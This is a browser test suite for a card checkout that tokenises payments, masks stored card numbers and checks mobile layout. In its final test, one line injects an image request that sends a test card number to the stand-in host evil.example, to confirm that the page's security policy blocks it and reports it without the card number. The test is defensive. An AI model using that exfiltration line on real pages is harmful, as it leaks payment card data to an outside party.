import { FIELDS, MASTERCARD, VISA } from '../support/bench-page.js';
import { openExampleShop, type ExampleShop } from '../support/example-shop.js';
import { ShopPage, type CheckoutMode } from '../support/shop-page.js';
import { expect, test as base } from '../support/test.js';

const test = base.extend<object, { readonly shop: ExampleShop }>({
  shop: [
    async ({ browserName: _ }, use) => {
      const shop = await openExampleShop();
      await use(shop);
      await shop.close();
    },
    { scope: 'worker' },
  ],
});

const PAYMENTS: readonly (readonly [CheckoutMode, typeof VISA, string])[] = [
  ['form', VISA, 'Visa ending in 4242'],
  ['fields', MASTERCARD, 'Mastercard ending in 4444'],
];
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/u;

for (const [mode, card, words] of PAYMENTS) {
  test.describe(`checkout, ${mode === 'form' ? 'one frame' : 'a frame per field'}`, () => {
    test('takes a card and shows what the server got: tokens and disclosed facts', async ({ page, shop }) => {
      const shopping = new ShopPage(page, shop);
      await shopping.pay(card, mode);
      await expect(shopping.receipt).toBeFocused();
      await expect(shopping.receipt).toContainText(words);
      const tokens = await shopping.receipt.locator('dd').allTextContents();
      expect(tokens).toHaveLength(5);
      for (const token of tokens) expect(token).toMatch(UUID);
      expect(await page.content()).not.toContain(card.number);
      await expect(page.locator('iframe')).toHaveCount(0);
    });

    test('says what is missing, in the fields and beside the button, and goes on when it is mended', async ({
      page,
      shop,
    }) => {
      const shopping = new ShopPage(page, shop);
      await shopping.checkout(mode);
      await shopping.type({ ...card, number: '4242424242424241', cvc: '' }, mode);
      await shopping.payButton.click();
      await expect(shopping.problem).toHaveText('Please have a look at the fields above.');
      await expect(shopping.error('number', mode)).not.toBeEmpty();
      await expect(shopping.error('cvc', mode)).not.toBeEmpty();
      await expect(shopping.error('name', mode)).toBeEmpty();
      await expect(shopping.input('number', mode)).toBeFocused();
      await shopping.input('number', mode).press('ControlOrMeta+a');
      await page.keyboard.type(card.number);
      await shopping.input('cvc', mode).click();
      await shopping.arrived('cvc', mode);
      await page.keyboard.type(card.cvc);
      await page.keyboard.press('Enter');
      await expect(shopping.receipt).toContainText(words);
    });

    test('can be used by keyboard alone', async ({ page, shop }) => {
      const shopping = new ShopPage(page, shop);
      await shopping.checkout(mode);
      const isInNumber = () => shopping.input('number', mode).evaluate((input) => input.matches(':focus'));
      for (let presses = 0; presses < 12 && !(await isInNumber()); presses += 1) await page.keyboard.press('Tab');
      for (const field of FIELDS) {
        await shopping.arrived(field, mode);
        await page.keyboard.type(card[field]);
        await page.keyboard.press('Tab');
      }
      await expect(shopping.payButton).toBeFocused();
      await page.keyboard.press('Shift+Tab');
      await expect(shopping.input('name', mode)).toBeFocused();
      await page.keyboard.press('Tab');
      await page.keyboard.press('Enter');
      await expect(shopping.receipt).toContainText(words);
    });
  });
}

test.describe('my cards', () => {
  test('shows the last four digits, then all for a while, and hides them again', async ({ page, shop }) => {
    const shopping = new ShopPage(page, shop);
    await shopping.pay(VISA, 'form');
    await page.clock.install();
    const card = (await shopping.cards()).first();
    await expect(card).toContainText('•••• 4242');
    await card.getByRole('button', { name: 'Show:' }).click();
    await expect(shopping.shown(card)).toHaveText('•••• 4242');
    await card.getByRole('button', { name: 'Show full number' }).click();
    await expect(shopping.shown(card).first()).toHaveText('4242 4242 4242 4242');
    expect(await page.content()).not.toContain('4242 4242');
    await page.clock.runFor(19_000);
    await expect(shopping.shown(card).first()).toHaveText('4242 4242 4242 4242');
    await page.clock.runFor(2000);
    await expect(card.locator('iframe')).toHaveCount(0);
    await expect(card.getByRole('button', { name: 'Show:' })).toBeVisible();
  });

  test('hides at once when asked to', async ({ page, shop }) => {
    const shopping = new ShopPage(page, shop);
    await shopping.pay(MASTERCARD, 'form');
    const card = (await shopping.cards()).first();
    await card.getByRole('button', { name: 'Show:' }).click();
    await expect(shopping.shown(card)).toHaveText('•••• 4444');
    await card.getByRole('button', { name: 'Hide' }).click();
    await expect(card.locator('iframe')).toHaveCount(0);
    await expect(card.getByRole('button', { name: 'Show:' })).toBeFocused();
  });

  test('are each shopper’s own: another sees none and is given no session for them', async ({
    browser,
    page,
    shop,
  }) => {
    const shopping = new ShopPage(page, shop);
    await shopping.pay(VISA, 'form');
    const tokens = await page.evaluate(async () => (await fetch('/orders')).text());
    const token = /"number":"([0-9a-f-]{36})"/u.exec(tokens)?.[1] ?? '';
    const stranger = await browser.newPage();
    await stranger.goto(`${shop.urls.shop}/cards`);
    await expect(stranger.getByText('No card yet')).toBeVisible();
    const ask = (who: typeof page): Promise<number> =>
      who.evaluate(async (wanted) => {
        const body = JSON.stringify({ purpose: 'reveal', jkt: 'A'.repeat(43), tokens: [wanted] });
        const headers = { 'content-type': 'application/json' };
        return (await fetch('/cloister/session', { method: 'POST', headers, body })).status;
      }, token);
    expect(await ask(page)).toBe(200);
    expect(await ask(stranger)).toBe(403);
    await stranger.context().close();
  });
});

test.describe('on a phone', () => {
  test.use({ viewport: { width: 360, height: 740 }, hasTouch: true, isMobile: true });

  for (const [mode, card, words] of PAYMENTS) {
    test(`nothing is wider than the screen, and paying works (${mode})`, async ({ page, shop }) => {
      const shopping = new ShopPage(page, shop);
      await shopping.checkout(mode);
      const widths = () => page.evaluate(() => [document.documentElement.scrollWidth, window.innerWidth]);
      expect((await widths())[0]).toBeLessThanOrEqual(360);
      const box = await shopping.input('number', mode).boundingBox();
      expect(box?.height).toBeGreaterThanOrEqual(40);
      await shopping.input('number', mode).tap();
      await shopping.type(card, mode);
      // People scroll, see, and tap. A touch in the same moment as a scroll is still routed to the frame that was there.
      await shopping.payButton.scrollIntoViewIfNeeded();
      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
      await shopping.payButton.tap();
      await expect(shopping.receipt).toContainText(words);
      expect((await widths())[0]).toBeLessThanOrEqual(360);
    });
  }
});

test('what a browser refuses on a page is told to whoever runs the shop, with the change and without the card', async ({
  page,
  shop,
}) => {
  const shopping = new ShopPage(page, shop);
  await shopping.checkout('form');
  await page.evaluate((card) => {
    new Image().src = `https://evil.example/pixel?card=${card}`;
  }, VISA.number);
  const told = () => shop.noted.join('\n');
  await expect.poll(told).toContain('The policy refused an image (https://evil.example)');
  expect(told()).toContain('change, only if you know it: Add https://evil.example to img-src');
  expect(told()).not.toContain(VISA.number);
});
